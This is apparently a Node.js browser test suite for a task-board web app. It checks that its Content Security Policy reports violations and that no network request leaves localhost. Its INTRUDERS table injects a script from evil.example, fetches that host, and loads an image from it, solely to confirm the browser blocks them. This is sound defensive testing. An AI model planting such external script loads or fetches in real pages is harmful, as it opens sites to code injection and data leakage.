// What the page of task_board may load and reach, and what the browser says about it.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { Processes } from "../peers/lib/processes.mjs";
import { cursorAt, openTask, person, point, SHARED_TASK, startBoard, until } from "./lib/board_page.mjs";

const processes = new Processes();
const netLog = join(processes.folder, "net_log.json");
let site;

before(async () => {
  site = await startBoard(processes, { args: [`--log-net-log=${netLog}`] });
});

after(() => processes.close());

const INTRUDERS = {
  "script-src-elem": () => document.head.append(Object.assign(document.createElement("script"), { src: "https://evil.example/a.js" })),
  "connect-src": () => void fetch("https://evil.example/").catch(() => {}),
  "img-src": () => void (new Image().src = "https://evil.example/a.png"),
  "style-src-attr": () => document.body.setAttribute("style", "color: red"),
  "worker-src": () => {
    try {
      new Worker("data:text/javascript,");
    } catch {
      // Some browsers tell by an event, some by an exception.
    }
  },
};

for (const [directive, intrude] of Object.entries(INTRUDERS)) {
  test(`what the policy forbids is reported: ${directive}`, { timeout: 60_000 }, async (t) => {
    const visit = await site.signIn(t, /Ada Lovelace/);
    await visit.page.evaluate(intrude);
    await until(() => visit.violations.length > 0);
    const violations = visit.violations.splice(0);
    assert.ok(violations.every((violation) => violation.startsWith(`${directive} `)), violations.join());
  });
}

/** Hosts and addresses that the browser's network stack was asked for or went to, by its own log. */
function reached() {
  const { constants, events } = JSON.parse(readFileSync(netLog, "utf8"));
  const nameOf = Object.fromEntries(Object.entries(constants.logEventTypes).map(([name, type]) => [type, name]));
  const hosts = new Set();
  for (const { type, params = {} } of events) {
    const name = nameOf[type];
    if (name === "URL_REQUEST_START_JOB" && params.url) hosts.add(new URL(params.url).hostname);
    if (name.startsWith("HOST_RESOLVER") && params.host) hosts.add(new URL(params.host.replace(/^(?!\w+:\/\/)/, "tcp://")).hostname);
    if (/^(TCP|UDP)_CONNECT/.test(name) && params.address) hosts.add(params.address.replace(/:\d+$/, ""));
  }
  return [...hosts];
}

test("no request leaves this machine, by the browser's own log", { timeout: 60_000 }, async (t) => {
  const [ada, grace] = [await site.signIn(t, /Ada Lovelace/), await site.signIn(t, /Grace Hopper/)];
  for (const { page } of [ada, grace]) await openTask(page, SHARED_TASK);
  await person(ada.page, "Grace Hopper").waitFor();
  await point(grace.page, 0.5, 0.5);
  await cursorAt(ada.page, 0.5, 0.5);
  await site.browser.close(); // Which completes the log.
  assert.deepEqual(reached().filter((host) => host !== "127.0.0.1"), []);
});
